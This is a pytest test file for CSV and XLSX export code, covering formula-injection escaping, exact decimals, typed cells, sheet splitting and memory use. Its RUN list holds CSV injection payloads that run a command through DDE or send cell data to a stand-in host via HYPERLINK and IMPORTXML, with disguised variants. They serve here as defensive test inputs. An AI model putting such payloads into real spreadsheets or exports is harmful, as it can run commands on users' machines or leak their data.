"""Rows as files: what a spreadsheet would run stays text, values stay exact, and a workbook is one."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
import zipfile
from collections.abc import Iterable
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from operator import itemgetter
from typing import Any
from xml.etree import ElementTree

import pytest
from buf.validate import validate_pb2
from google.protobuf.message_factory import GetMessageClass
from hypothesis import given
from hypothesis import strategies as st

from gateway.contract import Contract
from gateway.export.columns import Column, Kind, columns_of, lists
from gateway.export.csv_file import CsvFile, exact, harmless
from gateway.export.xlsx_file import LONGEST_CELL, XlsxFile, letters

# OWASP's examples and their disguises: what a spreadsheet would take for a formula, a command, a link.
RUN = [
    "=cmd|' /C calc'!A0", "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x01=1+1", "＝1+1", "＋1", "－cmd", "＠x",
    "+86 138 0013 8000", "--5", "+", "-", "=", "@", "-1e5+x", "\tx", "\nx", "\rx",
]  # fmt: skip
CALM = [
    "", "Acme", "a=b", "1-2", "+8613800138000", "-5", "-5.25", "+0", "'", "'x", "{}", "[1]", "#REF!", "北京",
    "a\tb", "a\r\n=b",
]  # fmt: skip


def column(kind: Kind, name: str = "value") -> Column:
    """A column of records that are their own values."""
    return Column(name, kind, lambda record: record)


def as_csv(values: Iterable[Any], kind: Kind = Kind.TEXT) -> list[str]:
    """What a reader of CSV finds in the rows."""
    file = CsvFile([column(kind)])
    data = file.page(values) + file.end()
    return [row[0] if row else "" for row in csv.reader(io.StringIO(data.decode(), newline=""))][1:]


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    (said,) = as_csv([text])
    assert said == f"'{text}" and exact(said) == text
    assert exact(harmless(said)) == said  # and whoever puts an apostrophe there gets it back


@pytest.mark.parametrize("text", CALM)
def test_other_texts_and_plain_numbers_stay_as_they_are(text: str) -> None:
    assert as_csv([text, "x"])[0] == text and exact(text) == text


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00")))
def test_no_text_is_lost_and_none_is_run(text: str) -> None:
    said = harmless(text)
    assert exact(said) == text
    assert as_csv([text, "x"])[0] == said
    runs = said.lstrip()[:1] in tuple("=+-@＝＋－＠") or said[:1] in tuple("\t\r\n")
    assert not (said and runs) or re.fullmatch(r"[+-]?\d+(\.\d+)?", said)


def test_numbers_that_are_numbers_are_not_touched() -> None:
    assert as_csv([Decimal("-5.00"), Decimal("123456789012345.6789")], Kind.DECIMAL) == [
        "-5.00", "123456789012345.6789",
    ]  # fmt: skip
    assert as_csv([-3, 2**62], Kind.INTEGER) == ["-3", str(2**62)]
    assert as_csv([True, False], Kind.FLAG) == ["true", "false"]
    moment = datetime(2026, 3, 31, 8, 0, 0, 250_000, UTC)
    assert as_csv([moment, moment.replace(microsecond=0)], Kind.TIME) == [
        "2026-03-31T08:00:00.250Z", "2026-03-31T08:00:00Z",
    ]  # fmt: skip


def test_amounts_are_exact_and_what_is_missing_is_empty() -> None:
    noun = lists()["customers"].noun
    amount, currency = (c for c in columns_of(noun) if c.name.startswith("credit_limit"))
    record: Any = GetMessageClass(noun)()
    assert amount.read(record) is None and currency.read(record) is None
    for units, nanos, said in (
        (-1, -500_000_000, "-1.50"), (0, -10_000_000, "-0.01"), (7, 1, "7.000000001"),
        (10**15, 123_400_000, "1000000000000000.1234"), (100, 0, "100.00"),
    ):  # fmt: skip
        record.credit_limit.units, record.credit_limit.nanos = units, nanos
        assert f"{amount.read(record):f}" == said


MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def cells(data: bytes, sheet: int = 1) -> list[list[tuple[str, str, str]]]:
    """(place, type or style, text) of every cell of every row."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert book.testzip() is None
        for name in book.namelist():
            ElementTree.fromstring(book.read(name))
        tree = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml"))
    return [
        [
            (c.get("r", ""), c.get("t") or f"n{c.get('s', '')}", "".join(c.itertext()))
            for c in row.iter(f"{MAIN}c")
        ]
        for row in tree.iter(f"{MAIN}row")
    ]


def workbook(file: XlsxFile, *pages: Iterable[Any]) -> bytes:
    """A whole file."""
    return b"".join([*(file.page(page) for page in pages), file.end()])


def test_a_workbook_has_typed_cells_and_texts_that_are_never_formulas() -> None:
    kinds = {
        Kind.TEXT: "=1+1 <&> \x07 _x0041_", Kind.INTEGER: -12, Kind.DECIMAL: Decimal("500.25"),
        Kind.FLAG: True, Kind.DATE: date(2026, 3, 31), Kind.TIME: datetime(2026, 3, 31, 12, tzinfo=UTC),
    }  # fmt: skip
    made = [Column(kind.value, kind, itemgetter(kind)) for kind in kinds]
    book = workbook(XlsxFile(made, title="customers"), [kinds], [{**dict.fromkeys(kinds), Kind.FLAG: False}])
    head, row, empty = cells(book)
    assert [said for _, _, said in head] == [kind.value for kind in kinds]
    assert [place for place, _, _ in row] == ["A2", "B2", "C2", "D2", "E2", "F2"]
    assert [said for _, _, said in row[:4]] == ["=1+1 <&> _x0007_ _x005F_x0041_", "-12", "500.25", "1"]
    assert [kind for _, kind, _ in row] == ["inlineStr", "n", "n", "b", "n2", "n3"]
    zero = datetime(1899, 12, 30, tzinfo=UTC)
    assert [zero + timedelta(days=float(said)) for _, _, said in row[4:]] == [
        datetime(2026, 3, 31, tzinfo=UTC), datetime(2026, 3, 31, 12, tzinfo=UTC),
    ]  # fmt: skip
    assert empty == [("D3", "b", "0")]


def test_what_a_spreadsheet_cannot_hold_exactly_is_text() -> None:
    values = [Decimal("1234567890123456.78"), 10**15, "x" * (LONGEST_CELL + 1)]
    made = [
        Column(str(at), Kind.TEXT if at == 2 else Kind.DECIMAL, lambda r, at=at: r[at]) for at in range(3)
    ]  # type: ignore[misc]
    _, row = cells(workbook(XlsxFile(made, title="x"), [values]))
    assert [kind for _, kind, _ in row] == ["inlineStr"] * 3
    assert [said for _, _, said in row[:2]] == ["1234567890123456.78", str(10**15)]
    assert len(row[2][2]) == LONGEST_CELL and row[2][2].endswith("x…")


def test_no_text_of_the_contract_is_cut_in_a_workbook() -> None:
    contract = Contract.load()
    for found in lists().values():
        for field in found.noun.fields:
            rules = contract.field_options(field).Extensions[validate_pb2.field]
            assert rules.string.max_len <= LONGEST_CELL, field.full_name


def test_a_full_sheet_is_followed_by_another(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("gateway.export.xlsx_file.MOST_ROWS", 3)
    data = workbook(XlsxFile([column(Kind.INTEGER)], title="shares customer"), range(3), range(3, 5))
    told = [[said for *_, said in row] for sheet in (1, 2, 3) for row in cells(data, sheet)]
    assert told == [["value"], ["0"], ["1"], ["value"], ["2"], ["3"], ["value"], ["4"]]
    names = re.findall(
        r'sheet name="([^"]+)"', zipfile.ZipFile(io.BytesIO(data)).read("xl/workbook.xml").decode()
    )
    assert names == ["shares customer", "shares customer 2", "shares customer 3"]


def test_a_workbook_that_broke_off_is_none() -> None:
    file = XlsxFile([column(Kind.INTEGER)], title="x")
    begun = file.page(range(1000))
    with pytest.raises(zipfile.BadZipFile):
        zipfile.ZipFile(io.BytesIO(begun))


def test_columns_are_lettered_as_in_a_spreadsheet() -> None:
    assert [letters(n) for n in (1, 26, 27, 52, 53, 702, 703)] == ["A", "Z", "AA", "AZ", "BA", "ZZ", "AAA"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_large_file_is_made_in_little_memory(kind: str) -> None:
    """What is held does not grow with the rows: after the thousandth page as after the tenth."""
    text, number = Column("a", Kind.TEXT, str), Column("b", Kind.INTEGER, int)
    file = CsvFile([text, number]) if kind == "csv" else XlsxFile([text, number], title="x")
    file.page(range(200))
    tracemalloc.start()
    for at in range(10):
        file.page(range(at * 200, at * 200 + 200))
    early = tracemalloc.get_traced_memory()[0]
    for at in range(10, 300):
        file.page(range(at * 200, at * 200 + 200))
    late = tracemalloc.get_traced_memory()[0]
    tracemalloc.stop()
    assert late < early + 100_000, (early, late)
